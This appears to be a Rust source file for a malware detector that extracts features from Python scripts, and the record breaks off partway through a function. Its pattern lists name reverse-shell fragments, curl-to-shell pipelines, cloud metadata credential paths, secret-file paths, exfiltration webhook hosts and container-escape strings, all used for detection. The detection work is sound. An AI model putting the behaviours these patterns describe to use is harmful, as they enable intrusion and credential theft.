//! Feature extraction: hashed token / API-call n-grams plus hand-built signals, computed on the
//! script and on every layer that the bounded decoders reveal.
//!
//! Layout of a feature vector: indices `0..N_SIGNALS` are the dense hand-built signals (values in
//! `[0, 1]`), indices `N_SIGNALS..DIM` are the hashed sparse features (log counts, L2-normalized).

use std::collections::{HashMap, VecDeque};
use std::sync::OnceLock;

use aho_corasick::AhoCorasick;
use sha2::{Digest, Sha256};

use crate::decode::{self, LayerKind};
use crate::lexer::{Lexer, Tok};

/// Version tag of the feature definition. Bump on any change that alters feature values.
pub const FEATURE_SET_VERSION: &str = "ward-python-features/6";
/// Number of bits of the hashed feature space.
pub const HASH_BITS: u32 = 18;
/// Size of the hashed feature space.
pub const HASH_DIM: usize = 1 << HASH_BITS;

/// Bounds that keep extraction linear and memory-bounded on hostile input.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// Longest input analysed; longer input is cut to its head (3/4) and tail (1/4).
    pub max_input: usize,
    /// Deepest decoding nesting followed.
    pub max_depth: u32,
    /// Most decoded layers analysed per script.
    pub max_layers: usize,
    /// Most decoded bytes in total per script.
    pub max_decoded: usize,
    /// Most hashed feature events recorded per script.
    pub max_events: usize,
}

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_input: 512 << 10,
            max_depth: 5,
            max_layers: 64,
            max_decoded: 512 << 10,
            max_events: 250_000,
        }
    }
}

/// Window size for [`Extractor::windows`].
pub const WINDOW: usize = 16 << 10;
/// Most windows scored per script.
pub const MAX_WINDOWS: usize = 16;
/// Longest prefix of a script whose windows are chosen and scored ([`Extractor::windows`]):
/// the scoring cap, separate from what a finding displays. Beyond it only the head and tail
/// are seen (through the whole-file vector).
pub const MAX_SCORED: usize = 64 << 20;

/// Limits used for each window of [`Extractor::windows`].
pub fn window_limits(l: Limits) -> Limits {
    Limits {
        max_depth: l.max_depth.min(3),
        max_layers: l.max_layers.min(8),
        max_decoded: l.max_decoded.min(32 << 10),
        ..l
    }
}

/// Groups whose presence makes a window worth scoring on its own.
const STRONG_GROUPS: &[&str] = &[
    "exec",
    "decode",
    "socket",
    "dup2",
    "shell",
    "download",
    "metadata",
    "k8s_token",
    "mining",
    "webhook",
    "cron",
    "ssh_keys",
    "systemd",
    "shellrc",
    "pipe_shell",
    "ps_evasive",
    "memfd",
    "dyn_builtins",
    "creds",
];

/// Pattern groups searched (ASCII case-insensitively) in the script and every decoded layer.
/// The group name is the dense signal name `g:<name>`.
const GROUPS: &[(&str, &str, &[&str])] = &[
    (
        "exec",
        "runs dynamically built code (exec/eval)",
        &["exec(", "eval(", "'exec'", "\"exec\"", "execfile(", "exec "],
    ),
    (
        "decode",
        "decodes encoded data (base64/hex/zlib/marshal)",
        &[
            "b64decode",
            "b32decode",
            "b85decode",
            "a85decode",
            "unhexlify",
            "fromhex",
            "decompress(",
            "codecs.decode",
            "rot13",
            "rot_13",
            "marshal.loads",
            "decodebytes",
            "decodestring",
            "frombase64string",
        ],
    ),
    (
        "socket",
        "opens a network socket",
        &[
            "socket.socket",
            "socket(",
            "create_connection",
            ".connect((",
            "af_inet",
            "sock_stream",
            "open_connection(",
            "wrap_socket(",
            "websocket",
            "socketserver",
            "af_unix",
        ],
    ),
    (
        "dup2",
        "duplicates file descriptors onto stdio (dup2)",
        &["dup2("],
    ),
    (
        "shell",
        "spawns an interactive shell",
        &[
            "pty.spawn",
            "/bin/sh",
            "/bin/bash",
            "bash -i",
            "sh -i",
            "cmd.exe",
            "/bin/zsh",
            "'-i'",
            "\"-i\"",
            "bash -li",
            "pty.fork",
            "exec:'bash",
            "exec:bash",
            "exec:/bin",
            "execl('/bin",
            "execl(\"/bin",
            "execv('/bin",
            "execv(\"/bin",
        ],
    ),
    (
        "download",
        "downloads from the network",
        &[
            "urlopen",
            "urlretrieve",
            "requests.get",
            "wget ",
            "curl ",
            "httpx.get",
            ".download(",
            "urllib.request",
            "urllib2",
            "downloadfile",
            "downloadstring",
            "invoke-webrequest",
            "'curl'",
            "\"curl\"",
            "'wget'",
            "\"wget\"",
            "iter_content(",
            "getresponse()",
            "iwr ",
            "tftp ",
        ],
    ),
    (
        "chmod",
        "makes a file executable (chmod)",
        &[
            "chmod", "0o755", "0o777", "0o700", "0755", "0777", "s_ixusr", "s_irwxu", "+x ",
            "s_iexec", "'+x'", "\"+x\"",
        ],
    ),
    (
        "run",
        "runs external commands",
        &[
            "subprocess",
            "os.system",
            "os.popen",
            "os.exec",
            "os.spawn",
            "popen(",
            "check_output",
            "check_call",
            "startfile",
            "shell=true",
        ],
    ),
    (
        "metadata",
        "contacts the cloud instance-metadata service",
        &[
            "169.254.169.254",
            "metadata.google.internal",
            "100.100.100.200",
            "fd00:ec2::254",
            "/computemetadata/",
            "/latest/meta-data",
            "/latest/api/token",
            "iam/security-credentials",
            "metadata/instance",
            "metadata/identity",
            "169.254.170.2",
            "aws_container_credentials",
            "/latest/user-data",
            "ram/security-credentials",
        ],
    ),
    (
        "k8s_token",
        "reads the Kubernetes service-account token",
        &[
            "/var/run/secrets/kubernetes.io",
            "/run/secrets/kubernetes.io",
            "serviceaccount/token",
            "/run/secrets/eks.amazonaws.com",
        ],
    ),
    (
        "mining",
        "references cryptocurrency mining (pools, xmrig)",
        &[
            "stratum+tcp",
            "stratum+ssl",
            "stratum2+",
            "stratum://",
            "xmrig",
            "minexmr",
            "nanopool",
            "supportxmr",
            "moneroocean",
            "2miners",
            "f2pool",
            "hashvault",
            "--donate-level",
            "cryptonight",
            "randomx",
            "nicehash",
            "ethminer",
            "cpuminer",
            "coinhive",
            "minergate",
            "--coin",
            "rx/0",
            "stratum",
            "t-rex",
            "lolminer",
            "nbminer",
            "ethash",
            "kawpow",
            "daggerhashimoto",
            "minerd",
            "max-threads-hint",
            "cpu-max-threads",
            "mining.subscribe",
            "mining.authorize",
            "monero",
        ],
    ),
    (
        "webhook",
        "talks to a webhook / paste / tunnel service used for exfiltration",
        &[
            "discord.com/api/webhooks",
            "discordapp.com/api/webhooks",
            "hooks.slack.com",
            "api.telegram.org/bot",
            "webhook.site",
            "pipedream.net",
            "requestbin",
            "ngrok",
            "burpcollaborator",
            "oastify",
            "interact.sh",
            "interactsh",
            "oast.",
            "transfer.sh",
            "pastebin.com",
            "paste.ee",
            "hastebin",
            "requestcatcher",
            "beeceptor",
            "canarytokens",
            "dnslog",
            "ceye.io",
            "anonfiles",
            "file.io",
            "0x0.st",
            "termbin",
            "ptpb",
            "bashupload",
            "trycloudflare",
        ],
    ),
    (
        "cron",
        "installs a cron job",
        &[
            "crontab",
            "/etc/cron",
            "/var/spool/cron",
            "@reboot",
            "every_reboot",
            "* * * * *",
            "*/5 * * * *",
            "*/10 * * * *",
            "'at', 'now'",
        ],
    ),
    (
        "ssh_keys",
        "touches SSH authorized_keys",
        &["authorized_keys", "sshd_config", "permitrootlogin"],
    ),
    (
        "systemd",
        "installs a system service (systemd/init/rc.local)",
        &[
            "/etc/systemd/system",
            "systemctl enable",
            "systemctl daemon-reload",
            "/etc/init.d",
            "rc.local",
            "[install]",
            "wantedby=",
            "systemctl --user",
            "'--user', 'enable'",
            "update-rc.d",
            "chkconfig",
            ".config/autostart",
            "autostart-enabled",
            "[desktop entry]",
        ],
    ),
    (
        "shellrc",
        "modifies shell start-up or preload files",
        &[
            ".bashrc",
            ".bash_profile",
            ".zshrc",
            "ld.so.preload",
            "/etc/profile",
            "ld_preload",
            "sitecustomize",
            "usercustomize",
            ".pth'",
            ".pth\"",
            "getsitepackages",
            "/etc/environment",
        ],
    ),
    (
        "creds",
        "reads credential or secret files",
        &[
            ".aws/credentials",
            ".ssh/id_",
            "id_rsa",
            "id_ed25519",
            "/etc/shadow",
            ".docker/config.json",
            ".kube/config",
            ".git-credentials",
            ".netrc",
            "login data",
            "local state",
            "wallet",
            "keychain",
            ".pgpass",
            "cookies",
            "aws_secret_access_key",
            "application_default_credentials",
            ".npmrc",
            ".pypirc",
            "leveldb",
            "discord/local storage",
            "passwords",
            "/etc/passwd",
            "token",
        ],
    ),
    (
        "environ",
        "collects environment variables",
        &[
            "os.environ",
            "environ.items",
            "environ.copy",
            "printenv",
            "getenv(",
        ],
    ),
    (
        "send",
        "sends data out (HTTP POST / raw socket / mail)",
        &[
            "requests.post",
            ".post(",
            "sendall(",
            ".send(",
            "http.client",
            "httpconnection",
            "smtplib",
            "ftplib",
            "method='post'",
            "method=\"post\"",
            "data=",
            "sendto(",
            "storbinary",
            "send_message(",
            "sendmail(",
            "sendphoto",
            "senddocument",
            "files={",
            "requests.put",
        ],
    ),
    (
        "pipe_shell",
        "builds a shell pipeline (curl|sh, /dev/tcp, nc -e, nohup)",
        &[
            "| bash",
            "|bash",
            "| sh",
            "|sh",
            "/dev/tcp/",
            "nc -e",
            "ncat ",
            "socat ",
            "busybox ",
            "'-e', '/bin",
            "| python",
            "|python",
            "mkfifo",
            "bash -c",
            "sh -c",
            "nohup ",
            "2>&1 &",
            ">/dev/null",
            "> /dev/null",
        ],
    ),
    ("powershell", "runs PowerShell", &["powershell", "pwsh"]),
    (
        "ps_evasive",
        "hidden/encoded PowerShell or download cradle",
        &[
            "-encodedcommand",
            "-enc ",
            "-e jab",
            "-windowstyle hidden",
            "-w hidden",
            "-nop -w",
            "invoke-expression",
            "iex(",
            "iex (",
            "start-process",
            "-executionpolicy bypass",
            "-ep bypass",
            "downloadstring",
            "downloadfile",
            "invoke-webrequest",
            "net.webclient",
            "-outfile",
        ],
    ),
    (
        "memfd",
        "executes from memory (memfd_create / fexecve)",
        &["memfd_create", "/proc/self/fd", "fexecve", "/proc/self/exe"],
    ),
    (
        "tmpdrop",
        "writes into temporary or hidden locations",
        &[
            "/tmp/",
            "/dev/shm",
            "/var/tmp",
            "gettempdir",
            "%temp%",
            "appdata",
            "/tmp/.",
        ],
    ),
    (
        "detach",
        "detaches or hides the process",
        &[
            "setsid",
            "os.fork",
            "fork()",
            "prctl",
            "disown",
            "creationflags",
            "create_no_window",
            "detached_process",
            "startupinfo",
            "daemon=true",
            "start_new_session",
        ],
    ),
    (
        "setup",
        "is a package setup script",
        &["setup(", "setuptools", "distutils"],
    ),
    (
        "install_hook",
        "overrides install/develop/egg_info commands",
        &[
            "cmdclass",
            "install.run",
            "(install)",
            "(develop)",
            "(egg_info)",
            "(build_py)",
            "def run(self",
        ],
    ),
    (
        "builtins",
        "reaches builtins indirectly (__builtins__/__import__/globals()[...])",
        &[
            "__builtins__",
            "__import__",
            "globals()[",
            "__dict__[",
            "vars(__",
        ],
    ),
    (
        "dyn_builtins",
        "looks up builtins by computed name (getattr(__builtins__, ...))",
        &[
            "getattr(__builtins__",
            "getattr(builtins",
            "__builtins__.__dict__",
            "__builtins__[",
            "vars(__builtins__",
            "globals()['__builtins__",
            "getattr(__import__(",
        ],
    ),
    (
        "sysinfo",
        "collects host identity (user, hostname, public IP)",
        &[
            "platform.node",
            "getpass.getuser",
            "gethostname",
            "os.getlogin",
            "uname",
            "whoami",
            "ipinfo.io",
            "ifconfig.me",
            "api.ipify",
            "checkip",
            "icanhazip",
        ],
    ),
    (
        "kill_av",
        "tampers with security tools or history",
        &[
            "history -c",
            "bash_history",
            "unset histfile",
            "setenforce 0",
            "iptables -f",
            "ufw disable",
            "apparmor",
            "kill -9",
            "pkill",
            "journalctl --vacuum",
            "/var/log/wtmp",
            "/var/log/btmp",
            "/var/run/utmp",
            "/var/log/lastlog",
            "histfile",
            "falcon-sensor",
            "auditd",
            "aliyun",
            "qcloud",
        ],
    ),
    (
        "netread",
        "reads data or commands from a network peer",
        &[
            "recv(",
            "recvfrom(",
            "recv_into(",
            ".makefile(",
            "rfile",
            "readuntil(",
            "await reader",
            ".readline()",
        ],
    ),
    (
        "shell_str",
        "runs a string through the shell",
        &[
            "shell=true",
            "os.system(",
            "os.popen(",
            "getoutput(",
            "getstatusoutput(",
            "create_subprocess_shell",
            "popen(",
        ],
    ),
    (
        "listen",
        "listens for inbound connections",
        &[
            ".bind((",
            ".listen(",
            ".accept()",
            "tcpserver",
            "serve_forever",
            "bind(('",
        ],
    ),
    (
        "environ_all",
        "takes the whole environment (not one variable)",
        &[
            "environ.items",
            "environ.copy",
            "dict(os.environ",
            "dumps(os.environ",
            "str(os.environ",
            "environ.keys",
            "in os.environ:",
            "printenv",
            "environ)",
        ],
    ),
    (
        "cloud_secrets",
        "reaches cloud / CI secrets (secret stores, credential files, token variables)",
        &[
            "secretsmanager",
            "get_secret_value",
            "list_secrets",
            "get_parameters",
            "google_application_credentials",
            "legacy_credentials",
            "accesstokens.json",
            "credentials.db",
            "adc.json",
            ".vault-token",
            "vault_token",
            "github_token",
            "npm_token",
            "aws_session_token",
            "secretaccesskey",
            "accesskeyid",
            ".terraformrc",
            "/api/v1/secrets",
        ],
    ),
    (
        "clipboard",
        "reads or replaces clipboard contents",
        &["pyperclip", "clipboard", "xclip", "xsel ", "pbpaste"],
    ),
    (
        "wallet_re",
        "matches or embeds cryptocurrency wallet addresses",
        &[
            "bc1q",
            "(bc1|",
            "0x[a-fa-f0-9]{40}",
            "[13][a-km-z",
            "[13][a-za-hj-np-z",
            "bitcoin",
            "ethereum",
            "metamask",
            "exodus",
            "electrum",
            "seed phrase",
            "mnemonic",
        ],
    ),
    (
        "encrypt",
        "encrypts data",
        &[
            "fernet(",
            "aes.new",
            ".encrypt(",
            "encrypt_and_digest",
            "chacha20",
            "cipher(",
        ],
    ),
    (
        "walk",
        "walks the file system",
        &["os.walk", "rglob(", "scandir(", "glob.glob(", "listdir("],
    ),
    (
        "destroy",
        "deletes or overwrites data in bulk",
        &[
            "shutil.rmtree",
            "rm -rf",
            "dd if=",
            "shred ",
            "mkfs",
            "wipefs",
            "of=/dev/sd",
            "of=/dev/nvme",
        ],
    ),
    (
        "web_input",
        "takes input from an HTTP request",
        &[
            "parse_qs(",
            "request.args",
            "request.form",
            "request.values",
            "query_params",
            "environ['query_string']",
            "rfile.read(",
            "request.get_data(",
            "request.get_json(",
        ],
    ),
    (
        "sys_targets",
        "targets system data (databases, home directories, block devices)",
        &[
            "/var/lib/mysql",
            "/var/lib/postgresql",
            "'/home'",
            "/home/*",
            "/root/*",
            "'/var/lib'",
            "/dev/sd",
            "/dev/nvme",
            "/dev/vd",
            "--no-preserve-root",
            "sysrq-trigger",
        ],
    ),
    (
        "delete",
        "deletes files",
        &["os.remove(", "os.unlink(", ".unlink("],
    ),
    (
        "pubkey",
        "embeds an SSH public key",
        &[
            "ssh-rsa aaaa",
            "ssh-ed25519 aaaa",
            "ecdsa-sha2-nistp256 aaaa",
        ],
    ),
    (
        "append",
        "appends to a file",
        &["'a')", "\"a\")", "'ab')", "\"ab\")", ">> ", ">>/", "'a+')"],
    ),
    (
        "ransom_note",
        "ransom-note wording (pay, decrypt, BTC)",
        &[
            "your files",
            "are encrypted",
            "to decrypt",
            "how_to_decrypt",
            "readme_restore",
            " btc",
            "ransom",
            ".onion",
            "tutanota",
            "recover your",
            ".locked",
            "is encrypted",
            "been encrypted",
            "onionmail",
        ],
    ),
    (
        "spy",
        "captures keystrokes, screen or camera",
        &[
            "pynput",
            "keyboard.listener",
            "on_press",
            "on_release",
            "keyboard.hook(",
            "keyboard.record(",
            "keyboard.read_event(",
            "getasynckeystate",
            "setwindowshookex",
            "pyhook",
            "imagegrab",
            "pyautogui.screenshot",
            "mss(",
            "videocapture(",
        ],
    ),
    (
        "account",
        "creates or modifies user accounts",
        &["useradd", "adduser", "usermod", "crypt.crypt", "net user "],
    ),
    (
        "root_account",
        "grants root: uid-0 users, passwordless sudo, root SSH login, password resets",
        &[
            "'-u', '0'",
            "-u 0 ",
            "-o -u",
            "nopasswd",
            "/etc/sudoers",
            "permitrootlogin yes",
            "chpasswd",
        ],
    ),
    (
        "win_persist",
        "Windows autorun persistence (Run key, Startup folder, scheduled task, shortcuts)",
        &[
            "currentversion\\run",
            "setvalueex",
            "schtasks",
            "\\startup",
            "'startup'",
            "winlogon",
            "reg add",
        ],
    ),
    (
        "win_shortcut",
        "edits Windows shortcuts or Start-menu entries",
        &["start menu", "wscript.shell", "createshortcut", ".lnk"],
    ),
    (
        "revshell_cmd",
        "reverse-shell command line (/dev/tcp, nc -e, socat exec, mkfifo relay)",
        &[
            "/dev/tcp/",
            "/dev/udp/",
            "nc -e",
            "ncat -e",
            "nc -c ",
            "'-e', '/bin",
            "\"-e\", \"/bin",
            "exec:'bash",
            "exec:bash",
            "exec:/bin",
            "mkfifo",
            "0>&1",
        ],
    ),
    (
        "secret_files",
        "names private keys, credential stores or shell histories",
        &[
            ".ssh/id_",
            "id_rsa",
            "id_ed25519",
            "~/.ssh'",
            "'.ssh'",
            ".aws/credentials",
            "~/.aws'",
            "'.aws'",
            "/etc/shadow",
            "/etc/passwd",
            ".docker/config.json",
            ".kube/config",
            ".git-credentials",
            ".netrc",
            "login data",
            ".pgpass",
            ".npmrc",
            ".pypirc",
            "discord/local storage",
            "local storage/leveldb",
            "logins.json",
            "key4.db",
            "wallet.dat",
            "bash_history",
            "zsh_history",
            "mysql_history",
            "/root/.ssh",
        ],
    ),
    (
        "meta_creds",
        "instance-metadata credential or user-data paths",
        &[
            "security-credentials",
            "service-accounts/default/token",
            "identity/oauth2/token",
            "169.254.170.2",
            "/latest/user-data",
            "aws_container_credentials",
        ],
    ),
    (
        "binary_blob",
        "embeds an executable (ELF/PE header in base64 or hex)",
        &["f0vmrg", "tvqqaa", "7f454c46", "\\x7felf"],
    ),
    (
        "escape",
        "container escape or host takeover (docker.sock, nsenter, cgroup release_agent, kubelet)",
        &[
            "docker.sock",
            "/containers/create",
            "'privileged'",
            "\"privileged\"",
            "hostpid",
            "nsenter",
            "release_agent",
            "notify_on_release",
            "-t cgroup",
            "/proc/1/ns",
            "chroot /host",
            "'/host'",
            ":10250",
            "connect_get_namespaced_pod_exec",
            "core_pattern",
            "load_incluster_config",
        ],
    ),
    (
        "spread",
        "lateral movement (SSH to many hosts, password spraying, Redis/cron abuse, scanning)",
        &[
            "stricthostkeychecking=no",
            "batchmode=yes",
            "autoaddpolicy",
            "known_hosts",
            "ip_network(",
            "connect_ex(",
            "sshpass",
            "masscan",
            "config set dir",
            "config set dbfilename",
            "exec_command(",
        ],
    ),
    (
        "dns",
        "resolves host names or queries DNS directly",
        &[
            "gethostbyname(",
            "dns.resolver",
            "resolver.resolve(",
            "resolver.query(",
            "nslookup",
            "'dig'",
            "\"dig\"",
            "dig +short",
        ],
    ),
    (
        "dns_txt",
        "asks for DNS TXT records",
        &[
            "'txt'",
            "\"txt\"",
            "rdtype.txt",
            "type=txt",
            "-t txt",
            ".strings)",
        ],
    ),
    (
        "encode_out",
        "encodes data for transport (hex, base64)",
        &[
            "hexlify(",
            "b64encode(",
            "b32encode(",
            ".hex()",
            "encodebytes(",
        ],
    ),
    (
        "overwrite",
        "overwrites file contents in place (random bytes, read-write mode)",
        &[
            "os.urandom(",
            "'r+b'",
            "\"r+b\"",
            "'rb+'",
            "\"rb+\"",
            "write_bytes(",
        ],
    ),
    (
        "pip_install",
        "installs Python packages at run time",
        &[
            "'-m', 'pip'",
            "\"-m\", \"pip\"",
            "pip install",
            "pip._internal.cli.main",
            "pip.main(",
            "'install', '",
            "\"install\", \"",
        ],
    ),
    (
        "hide",
        "disguises or hides the process (kernel-thread names, self-deletion)",
        &[
            "[kworker",
            "[kthreadd",
            "kworkerd",
            "pr_set_name",
            "prctl(15",
            "remove(__file__",
            "sys.argv[0])",
            "unlink(__file__",
            "hidden=true",
            "/dev/null 2>&1 &",
            ">/dev/null 2>&1 &",
        ],
    ),
];

/// Dense signals derived from group combinations and literal statistics.
const COMBOS: &[(&str, &str)] = &[
    ("c:exec_decoded", "executes decoded/obfuscated data"),
    ("c:layer_code", "an encoded layer hides code or commands"),
    (
        "c:layer_any",
        "contains an encoded layer that decodes to text",
    ),
    (
        "c:revshell",
        "socket wired to a shell (reverse/bind shell pattern)",
    ),
    (
        "c:dl_chmod_exec",
        "downloads, marks executable and runs a file",
    ),
    ("c:env_exfil", "sends environment variables out"),
    ("c:cred_exfil", "reads credentials and sends data out"),
    (
        "c:meta_send",
        "queries instance metadata and sends data out",
    ),
    (
        "c:setup_hook_net",
        "setup script with install hook that uses network/commands",
    ),
    (
        "c:setup_exec",
        "setup script that runs commands or decoded code",
    ),
    ("c:persist_run", "installs persistence and runs commands"),
    ("c:detached_run", "runs a detached background command"),
    (
        "c:exec_remote",
        "executes code or files fetched from the network",
    ),
    (
        "c:socket_run",
        "network socket combined with command execution",
    ),
    (
        "c:fetch_run",
        "downloads a file and runs or marks it executable",
    ),
    ("c:remote_cmd", "runs commands received over the network"),
    (
        "c:bind_shell",
        "listens for connections and runs commands or a shell",
    ),
    ("c:env_dump_send", "sends the whole environment out"),
    (
        "c:secret_send",
        "reads secrets or credentials and sends them out",
    ),
    (
        "c:ransom",
        "walks files, encrypts and deletes them (ransomware)",
    ),
    ("c:wipe", "wipes data in bulk"),
    (
        "c:clipper",
        "swaps cryptocurrency addresses in the clipboard",
    ),
    (
        "c:spy_send",
        "captures keystrokes/screen and sends them out",
    ),
    (
        "c:persist_payload",
        "installs persistence that fetches or runs a payload",
    ),
    ("c:escape", "container escape or host takeover"),
    ("c:spread", "spreads to other hosts"),
    (
        "c:hide_run",
        "hides the process or its traces while running commands",
    ),
    ("c:dl_exec_file", "downloads a file and executes it"),
    ("c:ssh_backdoor", "adds an SSH key to authorized_keys"),
    ("c:revshell_cmd", "runs a reverse-shell command line"),
    (
        "c:webshell",
        "runs shell commands taken from an HTTP request",
    ),
    ("c:miner", "starts or talks to a cryptocurrency miner"),
    (
        "c:secret_file_send",
        "reads private keys / credential files and sends them out",
    ),
    ("c:meta_creds", "fetches instance-metadata credentials"),
    (
        "c:drop_exec",
        "writes an embedded or fetched executable and runs it",
    ),
    ("c:win_autorun", "installs Windows autorun persistence"),
    (
        "c:root_backdoor",
        "creates a root-equivalent account or login",
    ),
    (
        "c:dns_exfil",
        "encodes secrets or host data into DNS queries",
    ),
    ("c:dns_exec", "runs code taken from DNS TXT records"),
    (
        "c:shred",
        "walks files, overwrites and deletes them (wiper)",
    ),
    (
        "c:pip_remote",
        "installs a package at run time and imports it dynamically",
    ),
    (
        "c:any_behaviour",
        "shows at least one malicious behaviour combination",
    ),
    ("s:behaviours", "number of malicious behaviour combinations"),
    (
        "s:nonascii_idents",
        "non-ASCII identifiers (CJK/homoglyph names)",
    ),
    ("s:layers", "number of decoded layers"),
    ("s:depth", "depth of nested encodings"),
    ("s:entropy", "high-entropy long string literal"),
    ("s:long_literal", "very long encoded literal"),
    ("s:frac_encoded", "most of the script is encoded data"),
    ("s:chr_calls", "many chr() calls building strings"),
    (
        "s:obf_idents",
        "obfuscated identifiers (O0O0/lIlI/_0x style)",
    ),
    ("s:ip_host", "hard-coded IP address as a network peer"),
    ("s:ints_layer", "integer lists decode to text"),
    (
        "s:def_rate",
        "function definitions per identifier (library-style code)",
    ),
    (
        "s:self_rate",
        "share of `self` among identifiers (object-oriented code)",
    ),
    (
        "s:test_rate",
        "test-code vocabulary (assert, mock, pytest, unittest)",
    ),
    ("s:indent_rate", "share of indented lines"),
];

// Group membership is a 64-bit mask.
const _: () = assert!(GROUPS.len() <= 64);

/// Number of pattern-group signals (`g:*`, the first dense signals).
pub const N_GROUPS: usize = GROUPS.len();
/// Number of dense signals.
pub const N_SIGNALS: usize = GROUPS.len() + COMBOS.len();
/// Total dimension of a feature vector.
pub const DIM: usize = N_SIGNALS + HASH_DIM;

/// Name of dense signal `i` (e.g. `g:socket`, `c:revshell`).
pub fn signal_name(i: usize) -> String {
    if i < GROUPS.len() {
        format!("g:{}", GROUPS[i].0)
    } else {
        COMBOS
            .get(i - GROUPS.len())
            .map_or_else(|| "?".to_string(), |c| c.0.to_string())
    }
}

/// Index of the dense signal called `name` (e.g. `c:revshell`); panics on an unknown name.
pub fn signal_index(name: &str) -> u32 {
    (0..N_SIGNALS)
        .find(|&i| signal_name(i) == name)
        .expect("known signal name") as u32
}

/// Human description of dense signal `i`.
pub fn signal_description(i: usize) -> &'static str {
    if i < GROUPS.len() {
        GROUPS[i].1
    } else {
        COMBOS.get(i - GROUPS.len()).map_or("?", |c| c.1)
    }
}

fn combo(name: &str) -> usize {
    GROUPS.len()
        + COMBOS
            .iter()
            .position(|c| c.0 == name)
            .expect("combo name is a constant")
}

fn group(name: &str) -> usize {
    GROUPS
        .iter()
        .position(|g| g.0 == name)
        .expect("group name is a constant")
}

/// SHA-256 over everything that defines the features: version, hash size, signal names,
/// patterns, limits and the extracted features of fixed canary scripts.
pub fn feature_set_hash() -> String {
    static H: OnceLock<String> = OnceLock::new();
    H.get_or_init(compute_feature_set_hash).clone()
}

fn compute_feature_set_hash() -> String {
    let mut h = Sha256::new();
    h.update(FEATURE_SET_VERSION.as_bytes());
    h.update(HASH_BITS.to_le_bytes());
    for (n, _, pats) in GROUPS {
        h.update(n.as_bytes());
        for p in *pats {
            h.update(p.as_bytes());
            h.update([0]);
        }
    }
    for (n, _) in COMBOS {
        h.update(n.as_bytes());
    }
    let l = Limits::default();
    h.update(
        format!(
            "{l:?} window={WINDOW} max_windows={MAX_WINDOWS} {:?}",
            window_limits(l)
        )
        .as_bytes(),
    );
    for g in STRONG_GROUPS {
        h.update(g.as_bytes());
    }
    // Behaviour, not just declarations: the exact features of canary scripts that exercise the
    // lexer, every decoder and every feature family. A code change that alters extraction changes
    // this hash, so a stale model is refused even if nobody bumped FEATURE_SET_VERSION.
    for c in CANARIES {
        let a = Extractor::new().analyze(c.as_bytes());
        for (i, v) in a.features.idx.iter().zip(&a.features.val) {
            h.update(i.to_le_bytes());
            h.update(v.to_bits().to_le_bytes());
        }
        h.update((a.layers as u64).to_le_bytes());
    }
    hex::encode(h.finalize())
}

/// Canary scripts for [`feature_set_hash`] (harmless text; never executed).
const CANARIES: &[&str] = &[
    "import os, sys\nfrom urllib.request import urlopen\nx = os.environ.get('HOME', '/tmp/x')\nprint(sys.argv, x, shell=True)\n",
    "import base64, zlib\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvIHdvcmxkJyk7IGltcG9ydCBvcw=='))\ny = bytes.fromhex('7072696e74282768657827290a2020')\n",
    "s = ''.join([chr(112), chr(114), chr(105), chr(110), chr(116), chr(40), chr(41), chr(10)])\nt = [(7 << 4) + 0, 114, 105, 110, 116, 40, 41, 10, 32]\n",
    "u = 'https://203.0.113.9:8443/a/b?c=d' + 'p' 'q'\nv = b'\\x69\\x6d\\x70\\x6f\\x72\\x74 os'\n'''z''' # comment\n",
    "cmd = 'powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAGUAYwBoAG8AIABoAGkA'\n",
];

struct Patterns {
    ac: AhoCorasick,
    group_of: Vec<u8>,
    /// The patterns of [`STRONG_GROUPS`] alone: [`Extractor::windows`] scans the whole script
    /// for them, and an automaton of every pattern stopped at each of the far more frequent
    /// weak matches (benign code is full of them) only to skip it.
    strong_ac: AhoCorasick,
    strong_group_of: Vec<u8>,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let mut pats: Vec<String> = Vec::new();
        let mut group_of = Vec::new();
        for (gi, (_, _, ps)) in GROUPS.iter().enumerate() {
            for p in *ps {
                // Python quotes either way: a pattern written with ' also matches with " and
                // the other way round.
                let start = pats.len();
                for q in [p.to_string(), p.replace('\'', "\""), p.replace('"', "'")] {
                    if !pats[start..].contains(&q) {
                        pats.push(q);
                        group_of.push(gi as u8);
                    }
                }
            }
        }
        let build = |pats: &[&String]| {
            AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .kind(Some(aho_corasick::AhoCorasickKind::DFA))
                .build(pats)
                .expect("static patterns compile")
        };
        let all: Vec<&String> = pats.iter().collect();
        let strong: Vec<usize> = (0..pats.len())
            .filter(|&i| STRONG_GROUPS.contains(&GROUPS[group_of[i] as usize].0))
            .collect();
        Patterns {
            ac: build(&all),
            strong_ac: build(&strong.iter().map(|&i| &pats[i]).collect::<Vec<_>>()),
            strong_group_of: strong.iter().map(|&i| group_of[i]).collect(),
            group_of,
        }
    })
}

const fn str_eq(a: &str, b: &str) -> bool {
    let (a, b) = (a.as_bytes(), b.as_bytes());
    if a.len() != b.len() {
        return false;
    }
    let mut i = 0;
    while i < a.len() {
        if a[i] != b[i] {
            return false;
        }
        i += 1;
    }
    true
}

/// Bit of group `name` in a group mask (compile-time lookup; an unknown name fails the build).
const fn gb(name: &str) -> u64 {
    let mut i = 0;
    while i < GROUPS.len() {
        if str_eq(GROUPS[i].0, name) {
            return 1u64 << i;
        }
        i += 1;
    }
    panic!("unknown group")
}

/// Bit of combination `name` in a combination mask (index into [`COMBOS`]).
const fn cb(name: &str) -> u64 {
    let mut i = 0;
    while i < COMBOS.len() {
        if str_eq(COMBOS[i].0, name) {
            return 1u64 << i;
        }
        i += 1;
    }
    panic!("unknown combination")
}

// Combination membership is a 64-bit mask too.
const _: () = assert!(COMBOS.len() <= 64);

/// Neighbourhood for behaviour combinations: two adjacent chunks of this many bytes.
pub const CHUNK: usize = 1024;

/// Behaviour combinations present in one neighbourhood with group mask `m`.
fn local_combos(m: u64) -> u64 {
    let any = |mask: u64| m & mask != 0;
    let all = |mask: u64| m & mask == mask;
    const SOCKET: u64 = gb("socket");
    const DUP2: u64 = gb("dup2");
    const SHELL: u64 = gb("shell");
    const RUN: u64 = gb("run");
    const EXEC: u64 = gb("exec");
    const DOWNLOAD: u64 = gb("download");
    const CHMOD: u64 = gb("chmod");
    const SEND: u64 = gb("send") | gb("webhook");
    const PIPE_SHELL: u64 = gb("pipe_shell");
    const MEMFD: u64 = gb("memfd");
    const SHELL_STR: u64 = gb("shell_str");
